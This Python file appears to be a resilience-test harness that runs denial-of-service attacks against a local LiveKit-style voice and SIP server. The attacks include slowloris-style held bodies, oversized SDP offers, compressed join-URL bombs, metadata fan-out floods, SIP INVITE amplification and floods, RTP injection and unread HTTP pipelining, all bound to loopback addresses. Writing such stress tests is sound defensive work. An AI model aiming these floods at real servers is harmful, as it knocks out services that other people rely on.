"""What the attackers do. Each attack is a function that goes on until a time, within bounds of count, and gives in a few
words what it did; everything of it ends with this process. Loopback only: strangers have addresses of 127.0.0.0/8 of their
own, the hostile tenant has a good token, and 127.0.0.12 is also an address that may call by SIP.

    attacks.py NAME '{"port": …, "sip": …, "media": …, "token": …, "seconds": …}'
"""

import collections
import errno
import http.client
import itertools
import json
import os
import random
import select
import signal
import socket
import sys
import threading
import time

from livekit.protocol import models
from livekit.protocol import rtc as proto

import wire

STRANGERS = [f"127.0.0.{n}" for n in range(2, 12)]
BODIES = [f"127.0.0.{n}" for n in range(16, 19)]
TENANT = ["127.0.0.12", "127.0.0.13", "127.0.0.14", "127.0.0.15"]
GATEWAY = "127.0.0.12"
STRANGE_TELEPHONE = "127.0.0.66"
ATTACKS = {}
NOISE = random.Random(1)


def attack(name, least_seconds=0, by_itself=True, **settings):
    """Lists an attack, with settings that the server needs for it, how long it has to go on at least, and whether it runs
    without being named."""

    def listed(function):
        function.settings, function.least_seconds, function.by_itself = settings, least_seconds, by_itself
        ATTACKS[name] = function
        return function

    return listed


def many(number):
    return f"{number:,}"


def mib(count):
    return f"{count / (1 << 20):,.1f} MiB"


def tally(counter):
    return ", ".join(f"{count:,} × {what}" for what, count in counter.most_common()) or "nothing"


def in_threads(functions):
    threads = [threading.Thread(target=function, daemon=True) for function in functions]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


class Crowd:
    """Many connections that say what they have to say as fast as it is taken, and read or do not."""

    def __init__(self, port, reads=True, small=False):
        self.port, self.reads, self.small = port, reads, small
        self.epoll = select.epoll()
        self.open = {}
        self.opened = self.sent = self.received = self.cut = self.connected = 0
        self.answers = collections.Counter()

    def call(self, source, data):
        stream = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        stream.setblocking(False)
        if self.small:
            stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
        try:
            stream.bind((source, 0))
            code = stream.connect_ex((wire.HOST, self.port))
        except OSError as error:
            self.answers[errno.errorcode.get(error.errno, "?")] += 1
            stream.close()
            return False
        if code not in (0, errno.EINPROGRESS):
            self.answers[errno.errorcode.get(code, "?")] += 1
            stream.close()
            return False
        self.adopt(stream, data, source)
        return True

    def adopt(self, stream, data, source=None):
        stream.setblocking(False)
        self.opened += 1
        self.open[stream.fileno()] = [stream, memoryview(data), source, False]
        self.epoll.register(stream.fileno(), self.wish(data))

    def wish(self, data):
        return (select.EPOLLIN if self.reads else 0) | (select.EPOLLOUT if len(data) else 0) | select.EPOLLRDHUP

    def drop(self, number):
        self.epoll.unregister(number)
        self.open.pop(number)[0].close()
        self.cut += 1

    def turn(self, wait=0.05):
        """Gives and takes what there is; gives the addresses of those that were cut."""
        lost = []
        for number, events in self.epoll.poll(wait, 1_000):
            one = self.open[number]
            stream, data, source, told = one
            try:
                if events & select.EPOLLOUT:
                    if not told:
                        one[3] = "connected"
                        self.connected += 1
                    count = stream.send(data[:262_144]) if len(data) else 0
                    self.sent += count
                    one[1] = data[count:]
                    if not len(one[1]):
                        self.epoll.modify(number, self.wish(b""))
                if events & (select.EPOLLIN | select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                    part = stream.recv(65_536) if self.reads else b""
                    self.received += len(part)
                    if one[3] != "answered" and part.startswith(b"HTTP/1.1 "):
                        one[3] = "answered"
                        self.answers[part[9:12].decode()] += 1
                    if not part and (self.reads or events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR)):
                        lost.append(source)
                        self.drop(number)
            except BlockingIOError:
                pass
            except OSError:
                lost.append(source)
                self.drop(number)
        return lost


def besiege(crowd, places, data, most, until, at_once=100):
    """Holds a connection for each of `places` (addresses), with new ones for those that are cut, `most` in all."""
    waiting = collections.deque(places)
    while (now := time.monotonic()) < until:
        for _ in range(min(at_once, len(waiting))):
            if crowd.opened >= most:
                break
            crowd.call(waiting.popleft(), data(crowd.opened))
        waiting.extend(source for source in crowd.turn(min(0.05, until - now)) if source)


@attack("bodies")
def bodies(to, until):
    """Strangers begin bodies for doors that read a signature in them: 10,000 of a few bytes to /twirp/… and /rtc/webhook from
    ten addresses, and 300 of 999 kB, half of them in chunks, of which the end never comes, from three more. Connections that
    are cut are opened again, 20,000 and 900 in all."""
    paths = ["/twirp/livekit.RoomService/CreateRoom", "/rtc/webhook"]

    def begun(path, body, **more):
        return wire.head("POST", path, to["port"], content_type="application/json", **more) + body

    small = [begun(path, b'{"a', content_length=999_000) for path in paths]
    piece = b"x" * 990_000
    large = [begun(path, piece, content_length=999_000) for path in paths]
    large += [begun(path, b"f1b30\r\n" + piece, transfer_encoding="chunked") for path in paths]
    few, big = Crowd(to["port"]), Crowd(to["port"])
    in_threads([
        lambda: besiege(few, STRANGERS * 1_000, lambda n: small[n % 2], 20_000, until),
        lambda: besiege(big, BODIES * 100, lambda n: large[n % 4], 900, until, 10),
    ])
    return (
        f"{many(few.opened)} small bodies begun ({many(len(few.open))} held at the end; answers: {tally(few.answers)}), "
        f"{many(big.opened)} large ({many(len(big.open))} held; {mib(big.sent)} taken; answers: {tally(big.answers)})"
    )


def offer_of(lines):
    print_ = ":".join(["AB"] * 32)
    return (
        "v=0\r\no=- 1 2 IN IP4 127.0.0.1\r\ns=-\r\nt=0 0\r\na=group:BUNDLE 0\r\na=ice-ufrag:abcd\r\n"
        f"a=ice-pwd:abcdefghijklmnopqrstuvwx\r\na=fingerprint:sha-256 {print_}\r\na=setup:actpass\r\n"
        "m=audio 9 UDP/TLS/RTP/SAVPF 111\r\nc=IN IP4 0.0.0.0\r\na=mid:0\r\na=recvonly\r\na=rtcp-mux\r\n"
        f"a=rtpmap:111 opus/48000/2\r\na=fmtp:111 minptime=10;useinbandfec=1\r\n{lines}"
    )


def candidates(count):
    return offer_of("".join(
        f"a=candidate:{n} 1 udp 2130706431 10.{n >> 16}.{n >> 8 & 255}.{n & 255} {1024 + n} typ host\r\n" for n in range(count)
    ))


def rtpmaps(count):
    """Codecs and their feedback, which are compared with each other by whoever answers."""
    return offer_of("".join(
        f"a=rtpmap:{96 + n % 32} VP8/90000\r\na=rtcp-fb:{96 + n % 32} nack pli\r\na=fmtp:{96 + n % 32} apt={n % 128}\r\n"
        for n in range(count)
    )).replace("SAVPF 111", "SAVPF 111" + "".join(f" {n}" for n in range(96, 128) if n != 111))


def offer_frame(sdp):
    request = proto.SignalRequest(offer=proto.SessionDescription(type="offer", sdp=sdp, id=1))
    return wire.Web.frame(2, request.SerializeToString())


def push(web, data, until, told=None):
    """Sends bytes while it reads what comes; gives how many were taken, and whether the socket is still there."""
    data, web.owed, sent = memoryview(web.owed + data), b"", 0
    web.stream.setblocking(False)
    while sent < len(data) and time.monotonic() < until:
        readable, writable, _ = select.select([web.stream], [web.stream], [], 0.1)
        try:
            if readable and not receive(web, told):
                return sent, False
            if writable:
                sent += web.stream.send(data[sent : sent + 262_144])
        except BlockingIOError:
            pass
        except OSError:
            return sent, False
    return sent, True


def receive(web, told):
    """Takes what has come, and owes answers to pings, so that it goes on; False when the socket has ended."""
    part = web.stream.recv(262_144)
    if not part:
        return False
    web.buffer += part
    while (got := web.take()) is not None:
        if told is not None and got[0] == 2:
            message = proto.SignalResponse.FromString(got[1])
            kind = message.WhichOneof("message")
            told[kind] += 1
            if kind == "leave":
                told[f"leave ({models.DisconnectReason.Name(message.leave.reason)})"] += 1
        elif got[0] == 9:
            web.owed += wire.Web.frame(10, got[1])
        elif got[0] == 8:
            if told is not None:
                told[f"close {int.from_bytes(got[1][:2], 'big')}"] += 1
            return False
    return True


class Guests:
    """Participants who read all that they are told, and show that they do."""

    def __init__(self, webs):
        self.webs = {web.stream.fileno(): web for web in webs}
        self.epoll = select.epoll()
        for number, web in self.webs.items():
            web.stream.setblocking(False)
            self.epoll.register(number, select.EPOLLIN)
        self.received = self.messages = self.cut = 0

    def turn(self, wait=0.05):
        for number, _ in self.epoll.poll(wait):
            web = self.webs[number]
            try:
                part = web.stream.recv(262_144)
                self.received += len(part)
                web.buffer += part
                while (got := web.take()) is not None:
                    self.messages += got[0] == 2
                    if got[0] == 9:
                        web.stream.send(wire.Web.frame(10, got[1]))
                    elif got[0] == 8:
                        part = b""
            except BlockingIOError:
                continue
            except OSError:
                part = b""
            if not part:
                self.epoll.unregister(number)
                self.webs.pop(number).close()
                self.cut += 1


def offering(to, until, frames, most):
    """Participants of one room, one for each of `frames`, send this offer again and again, and come again when they are cut;
    `most` offers in all."""
    told, counts, lock = collections.Counter(), collections.Counter(), threading.Lock()

    def participant(number):
        while time.monotonic() < until and counts["offers"] < most:
            try:
                room_pass = wire.room_token(to["port"], to["token"], "hostile-offers", f"mallory-{number}", TENANT[0])
                web = wire.join(to["port"], room_pass, TENANT[0])
            except (OSError, ValueError) as error:
                counts[f"join: {type(error).__name__}"] += 1
                time.sleep(0.1)
                continue
            if web.status != 101:
                counts[f"join: {web.status}"] += 1
                time.sleep(0.1)
                continue
            counts["joins"] += 1
            there = True
            frame = frames[number]
            while there and time.monotonic() < until and counts["offers"] < most:
                sent, there = push(web, frame, until, told)
                with lock:
                    counts["offers"] += sent == len(frame)
                    counts["bytes"] += sent
            # What the last ones are answered.
            while there and time.monotonic() < until:
                if select.select([web.stream], [], [], 0.1)[0]:
                    try:
                        there = receive(web, told)
                    except OSError:
                        there = False
            web.close()

    in_threads([lambda number=number: participant(number) for number in range(len(frames))])
    refused = collections.Counter({what: count for what, count in counts.items() if what.startswith("join:")})
    shown = collections.Counter({what: told[what] for what in ("answer", "leave") if told[what]})
    return (
        f"{many(counts['offers'])} offers, {mib(counts['bytes'])} taken in {many(counts['joins'])} joins; told: {tally(shown)}"
        + (f"; {tally(refused)}" if refused else "")
    )


@attack("offers-candidates")
def offers_candidates(to, until):
    """Two participants of a room of the hostile tenant send offers with 29,000 candidates (1.8 MB), and, because that is more than
    some servers take in a message, two such with 11,500 (0.7 MB). 10,000 at most."""
    return offering(to, until, [offer_frame(candidates(count)) for count in (29_000, 11_500) * 2], 10_000)


@attack("offers-rtpmap")
def offers_rtpmap(to, until):
    """The same with offers of 1.7 MB and 0.7 MB that are full of `rtpmap`, `rtcp-fb` and `fmtp`."""
    return offering(to, until, [offer_frame(rtpmaps(count)) for count in (25_000, 10_000) * 2], 10_000)


@attack("offers-queued")
def offers_queued(to, until):
    """One participant sends 400 offers of 0.7 MB as fast as they are taken, without waiting for any answer."""
    return offering(to, until, [offer_frame(candidates(11_500))], 400)


@attack("join_request")
def join_request(to, until):
    """Twenty joins at once of the hostile tenant's participants, whose URL of 2 kB holds, packed, 524,000 tracks. Once."""
    packed = wire.wrapped(b"\x2a\x00" * 524_000, packed=True)
    statuses, length = collections.Counter(), 0
    passes = [wire.room_token(to["port"], to["token"], "hostile-joins", f"mallory-{n}", TENANT[0]) for n in range(20)]
    held = []

    def one(room_pass):
        nonlocal length
        path = f"/rtc/v1?access_token={room_pass}&join_request={packed}"
        length = len(path)
        try:
            web = wire.Web(to["port"], path, source=TENANT[0], timeout=max(0.1, until - time.monotonic()))
            statuses[str(web.status)] += 1
            held.append(web)
        except OSError as error:
            statuses[type(error).__name__] += 1

    in_threads([lambda room_pass=room_pass: one(room_pass) for room_pass in passes])
    time.sleep(max(0.0, until - time.monotonic()))
    return f"20 joins with {many(length)} bytes of URL: {tally(statuses)}"


def crowded(to, room, count, until, small=False):
    """Bare participants of a room of the hostile tenant, as sockets."""
    webs = []
    for n in range(count):
        if time.monotonic() > until:
            break
        source = TENANT[n % 4]
        room_pass = wire.room_token(to["port"], to["token"], room, f"guest-{n}", source)
        web = wire.join(to["port"], room_pass, source)
        if web.status != 101:
            break
        webs.append(web)
    return webs


def updating(to, room, until, updates, most, reads=True):
    """Somebody comes into a room and tells these changes of itself in turn, and shows that it reads, or not; gives how many,
    bytes, and what was told."""
    count = taken = 0
    told = collections.Counter()
    # Each is another than the one before it.
    batches = [
        b"".join(wire.Web.frame(2, proto.SignalRequest(update_metadata=updates(first + n)).SerializeToString()) for n in range(10))
        for first in range(0, 100, 10)
    ]
    while time.monotonic() < until and count < most:
        web = wire.join(to["port"], wire.room_token(to["port"], to["token"], room, "mallory", TENANT[0]), TENANT[0])
        if web.status != 101:
            told[f"join: {web.status}"] += 1
            time.sleep(0.1)
            continue
        there = True
        while there and time.monotonic() < until and count < most:
            sent, there = push(web, batches[count // 10 % 10], until, told)
            if not reads:
                web.owed = b""
            if not there:
                told["cut"] += 1
            count, taken = count + 10 * there, taken + sent
        told["joins"] += 1
        web.close()
    return count, taken, told


@attack("metadata-many")
def metadata_many(to, until):
    """In a room of 100 participants who read, one changes its 50 attributes of 1 kB, one after the other, as fast as it is
    taken: each change is told with all attributes to everybody. 500,000 changes at most."""
    webs = crowded(to, "hostile-metadata", 100, until)
    guests = Guests(webs)
    began, done = time.monotonic(), threading.Event()

    def read():
        while not done.is_set():
            guests.turn()

    reader = threading.Thread(target=read, daemon=True)
    reader.start()

    def change(n):
        return proto.UpdateParticipantMetadata(request_id=n + 1, attributes={f"attribute-{n % 50}": f"{n} ".ljust(1_000, "x")})

    count, taken, told = updating(to, "hostile-metadata", until, change, 500_000)
    time.sleep(max(0.0, until - time.monotonic()))
    done.set()
    reader.join()
    took = time.monotonic() - began
    return (
        f"{many(count)} changes ({mib(taken)}) told to {many(len(webs))} in {took:.0f} s: {many(guests.messages)} messages, "
        f"{mib(guests.received)}, came to them, {many(guests.cut)} were cut; {many(told['request_response'])} answered in {many(told['joins'])} joins"
    )


@attack("metadata-unread")
def metadata_unread(to, until):
    """In a room with three participants who do not read, one changes its metadata of 60 kB as fast as it is taken, and does not
    show that it reads either. 100,000 changes at most. Those who do not read come again when they are cut."""
    room, done, held = "hostile-unread", threading.Event(), collections.Counter()
    crowd = Crowd(to["port"], reads=False)

    def come():
        """Three who do not read."""
        while not done.is_set() and time.monotonic() < until:
            missing = 3 - len(crowd.open)
            for web in crowded(to, room, missing, until) if missing else []:
                web.stream.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4_096)
                crowd.adopt(web.stream, b"", "")
                held["joins"] += 1
            crowd.turn(0.05)

    comer = threading.Thread(target=come, daemon=True)
    comer.start()

    def change(n):
        return proto.UpdateParticipantMetadata(request_id=n + 1, metadata=f"{n} ".ljust(60_000, "x"))

    count, taken, told = updating(to, room, until, change, 100_000, reads=False)
    time.sleep(max(0.0, until - time.monotonic()))
    done.set()
    comer.join(2)
    return (
        f"{many(count)} changes ({mib(taken)}); three who do not read joined {many(held['joins'])} times, "
        f"{many(crowd.cut)} cut; {many(told['request_response'])} answered in {many(told['joins'])} joins"
    )


@attack("sip-invites", least_seconds=36)
def sip_invites(to, until):
    """An INVITE, and a second later 519 more, from one address that may call, to as many numbers, none acknowledged. Goes on for
    36 s at least, which is how long answers may be repeated. The bytes that come, signalling and sound, by those that were
    sent are the amplification: of the first alone, and of all."""
    began = time.monotonic()
    parties = [Forger(to["sip"]), Forger(to["sip"])]
    parties[0].ask("+14155559999")
    sockets = {one: party for party in parties for one in (party.signalling, party.media)}

    def take(wait):
        for one in select.select(list(sockets), [], [], wait)[0]:
            sockets[one].take(one)

    while time.monotonic() < began + 1:
        take(0.1)
    for n in range(519):
        parties[1].ask(f"+1415556{n:04}")
        take(0.0)
    while time.monotonic() < until:
        take(0.1)

    def shown(party):
        factor = (party.told + party.heard) / party.sent
        return f"{many(party.told)} bytes of signalling and {many(party.heard)} of sound for {many(party.sent)} (× {factor:.1f}), the last after {party.last - began:.0f} s"

    return (
        f"one INVITE alone: {tally(parties[0].statuses)}, {shown(parties[0])}; 519 more: {tally(parties[1].statuses)} (repetitions "
        f"included), {shown(parties[1])}"
    )


class Forger:
    """Somebody in whose name INVITEs are sent, who acknowledges nothing and counts what comes."""

    def __init__(self, port):
        self.port, self.calls = port, 0
        self.signalling, self.media = (socket.socket(socket.AF_INET, socket.SOCK_DGRAM) for _ in range(2))
        for one in (self.signalling, self.media):
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 8 << 20)
            one.bind((GATEWAY, 0))
        self.signalling.connect((wire.HOST, port))
        self.local = "%s:%d" % self.signalling.getsockname()
        self.sdp = wire.SDP.format(host=GATEWAY, port=self.media.getsockname()[1])
        self.sent = self.told = self.heard = 0
        self.last = time.monotonic()
        self.statuses = collections.Counter()

    def ask(self, number):
        self.calls += 1
        call = f"flood-{os.getpid()}-{id(self)}-{self.calls}"
        self.sent += self.signalling.send(wire.sip("INVITE", number, self.port, self.local, call, body=self.sdp))

    def take(self, one):
        try:
            packet = one.recv(65_536)
        except ConnectionError:
            return
        self.last = time.monotonic()
        if one is self.media:
            self.heard += len(packet)
        else:
            self.told += len(packet)
            if packet.startswith(b"SIP/2.0 ") and packet[8:9] != b"1":
                self.statuses[packet[8:11].decode()] += 1


@attack("sip-room", SIP_ROOM_MODE="number")
def sip_room(to, until):
    """40 calls to one number, acknowledged, that all speak into the one room (`sip.room_mode` `number`) until the end."""
    calls, statuses = [], collections.Counter()

    def one(number):
        made = wire.Call(to["sip"], "+14155570000", f"speaker{number}", GATEWAY)
        try:
            status = made.make(8)
        except OSError as error:
            status = type(error).__name__
        statuses[str(status or "no answer")] += 1
        if made.there:
            calls.append(made)

    in_threads([lambda number=number: one(number) for number in range(40)])
    sent = received = 0
    began = time.monotonic()
    for made in calls:
        made.media.setblocking(False)
    for sequence in itertools.count(1):
        now = time.monotonic()
        if now >= until:
            break
        time.sleep(max(0.0, began + sequence * 0.02 - now))
        for number, made in enumerate(calls):
            try:
                sent += made.media.sendto(wire.rtp(sequence, 1_000 + number), (wire.HOST, made.there))
                while True:
                    received += len(made.media.recv(2_048))
            except OSError:
                pass
    for made in calls:
        made.end()
    return f"40 calls: {tally(statuses)}; spoke {sequence * 0.02:.0f} s, {mib(sent)} of sound sent, {mib(received)} came back"


@attack("sip-flood")
def sip_flood(to, until):
    """Garbage, REGISTER, OPTIONS and INVITE from an address that may not call, and all but INVITE from one that may, as fast as
    this machine sends, 500,000 at most."""
    sockets, sent, received, bytes_out, bytes_in = {}, 0, 0, 0, 0
    for address in (STRANGE_TELEPHONE, GATEWAY):
        one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        one.bind((address, 0))
        one.connect((wire.HOST, to["sip"]))
        one.setblocking(False)
        sockets[address] = one
    kinds = []
    for address, one in sockets.items():
        local = "%s:%d" % one.getsockname()
        for n in range(500):
            for method in ("REGISTER", "OPTIONS", "INVITE"):
                if method == "INVITE" and address == GATEWAY:
                    continue
                kinds.append((one, wire.sip(method, "+14155580000", to["sip"], local, f"{method}-{os.getpid()}-{n}")))
            kinds.append((one, NOISE.randbytes(NOISE.choice((40, 400, 1_400)))))
    NOISE.shuffle(kinds)
    for one, message in itertools.cycle(kinds):
        if sent >= 500_000 or sent % 64 == 0 and time.monotonic() >= until:
            break
        try:
            bytes_out += one.send(message)
        except OSError:
            pass
        sent += 1
        if sent % 16 == 0:
            for other in sockets.values():
                try:
                    while True:
                        bytes_in += len(other.recv(65_536))
                        received += 1
                except OSError:
                    pass
    time.sleep(max(0.0, until - time.monotonic()))
    return f"{many(sent)} datagrams ({mib(bytes_out)}), {many(received)} answers ({mib(bytes_in)})"


def opening(to, until, kinds):
    """Opens sockets at `/ws`: of each kind (name, addresses, count, token, whether they send a `config`) so many; those that are
    refused are asked for again once a second. Holds them until the end."""
    told, held, lock = collections.defaultdict(collections.Counter), [], threading.Lock()

    def open_(name, sources, count, token, config):
        missing = count
        while time.monotonic() < until and missing:
            round_, missing = missing, 0
            for n in range(round_):
                if time.monotonic() >= until:
                    return
                try:
                    web = wire.Web(to["port"], "/ws", token, sources[n % len(sources)], 5)
                    if web.status == 101 and config:
                        web.send({"type": "config", "audio": False})
                    status = str(web.status)
                except OSError as error:
                    web, status = None, type(error).__name__
                with lock:
                    told[name][status] += 1
                    held.append(web)
                missing += status != "101"
            time.sleep(min(1.0, max(0.0, until - time.monotonic())))

    in_threads([lambda kind=kind: open_(*kind) for kind in kinds])
    time.sleep(max(0.0, until - time.monotonic()))
    return "; ".join(f"{name}: {tally(counter)}" for name, counter in told.items())


@attack("sockets-idle")
def sockets_idle(to, until):
    """2,000 sockets of the hostile tenant, of four addresses, that send a `config` and nothing more. Those that are refused are
    asked for again every second."""
    return opening(to, until, [("idle", TENANT[two : two + 2], 1_000, to["token"], True) for two in (0, 2)])


@attack("sockets-unconfigured", AUTH_SOCKET="public")
def sockets_unconfigured(to, until):
    """With `auth.socket` `public`: 200 sockets of the hostile tenant, and 1,000 of strangers of ten addresses, that send no `config`.
    Those that are refused are asked for again every second."""
    return opening(to, until, [
        ("the tenant's", TENANT, 200, to["token"], False),
        *(("strangers'", STRANGERS[part : part + 5], 500, None, False) for part in (0, 5)),
    ])


@attack("rooms")
def rooms(to, until):
    """The hostile tenant asks for tokens of 10,000 rooms, on four connections."""
    statuses, numbers, lock = collections.Counter(), itertools.count(), threading.Lock()

    def make():
        connection = None
        while time.monotonic() < until:
            with lock:
                number = next(numbers)
            if number >= 10_000:
                break
            wish = {"room_name": f"hostile-{number}", "participant_identity": "mallory", "participant_name": "Mallory"}
            head = {"authorization": f"Bearer {to['token']}", "content-type": "application/json"}
            try:
                connection = connection or http.client.HTTPConnection(
                    wire.HOST, to["port"], timeout=5, source_address=(TENANT[0], 0)
                )
                connection.request("POST", "/rtc/token", json.dumps(wish), head)
                answer = connection.getresponse()
                answer.read()
                status = str(answer.status)
            except (OSError, http.client.HTTPException) as error:
                connection, status = None, type(error).__name__
            with lock:
                statuses[status] += 1

    in_threads([make] * 4)
    time.sleep(max(0.0, until - time.monotonic()))
    return f"asked for rooms: {tally(statuses)}"


@attack("speaks")
def speaks(to, until):
    """The hostile tenant asks `POST /speak` for 70 texts of 6,000 characters at once, each another, by the local voice."""
    told, taken = collections.Counter(), collections.Counter()
    long = "One of the many words that somebody wants to hear. " * 120

    def one(number):
        wish = {"text": f"Number {number}. {long}"[:6_000], "tts_config": {"provider": "local", "model": ""}}
        try:
            answer = wire.ask(to["port"], "POST", "/speak?stream=true", to["token"], wish, TENANT[0], max(0.1, until - time.monotonic()))
            told[str(answer.status)] += 1
            taken["bytes"] += len(answer.body)
        except OSError as error:
            told["not done in time" if isinstance(error, TimeoutError) else type(error).__name__] += 1
            taken["bytes"] += error.args[0] if isinstance(error, TimeoutError) and error.args and isinstance(error.args[0], int) else 0

    in_threads([lambda number=number: one(number) for number in range(70)])
    time.sleep(max(0.0, until - time.monotonic()))
    return f"70 long texts: {tally(told)}; {mib(taken['bytes'])} of sound"


@attack("pipeline")
def pipeline(to, until):
    """200 connections of strangers ask for `/openapi.json`, one request behind the other, and read nothing: every other one 4,000
    times, the others 120 times, which is less than some servers take to be too much. Those that are cut come again, 2,000 in
    all."""
    crowd = Crowd(to["port"], reads=False, small=True)
    heads = [wire.head("GET", "/openapi.json", to["port"]) * count for count in (4_000, 120)]
    besiege(crowd, STRANGERS * 20, lambda n: heads[n % 2], 2_000, until)
    return f"{many(crowd.opened)} connections ({many(len(crowd.open))} held), {mib(crowd.sent)} of heads taken"


@attack("rtp")
def rtp(to, until):
    """A stranger sends sound, other payloads and garbage to the ports of the innocent's call, as fast as this machine sends,
    500,000 datagrams at most, and one in sixteen anywhere among the ports of calls."""
    thief = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    thief.bind((STRANGE_TELEPHONE, 0))
    thief.setblocking(False)
    sent = received = 0
    packets = [wire.rtp(n, NOISE.getrandbits(32) if n % 2 else 66, kind=NOISE.choice((0, 0, 8, 101, 127))) for n in range(900)]
    packets += [NOISE.randbytes(NOISE.choice((1, 12, 172, 1_400))) for _ in range(100)]
    NOISE.shuffle(packets)
    first, last = to["rtp"]
    for packet in itertools.cycle(packets):
        if sent >= 500_000 or sent % 64 == 0 and time.monotonic() >= until:
            break
        port = NOISE.randint(first, last) if sent % 16 == 0 else to["media"] + (sent % 5 == 0)
        try:
            thief.sendto(packet, (wire.HOST, port))
        except OSError:
            pass
        sent += 1
    time.sleep(max(0.0, until - time.monotonic()))
    try:
        while True:
            thief.recv(2_048)
            received += 1
    except OSError:
        pass
    return f"{many(sent)} datagrams, {many(received)} came back"


@attack("control", by_itself=False)
def control(to, until):
    """No attack: the server's process is stopped for half a second, three times a second apart. Shows that every gap is seen; runs
    only when it is named."""
    for _ in range(3):
        time.sleep(1)
        os.kill(to["pid"], signal.SIGSTOP)
        time.sleep(0.5)
        os.kill(to["pid"], signal.SIGCONT)
    time.sleep(max(0.0, until - time.monotonic()))
    return "stopped the server for 0.5 s three times"


def main():
    # An attacker is elsewhere: it does not take this machine's cores from the server.
    os.nice(10)
    wire.many_files()
    name, to = sys.argv[1], json.loads(sys.argv[2])
    function = ATTACKS[name]
    until = time.monotonic() + to["seconds"]
    try:
        did = function(to, until)
    except Exception as error:  # a server that is gone or full is a result
        did = f"gave up: {type(error).__name__}: {error}"
    print(json.dumps({"did": did}), flush=True)
    # Threads that still wait for an answer do not keep it.
    os._exit(0)


if __name__ == "__main__":
    main()
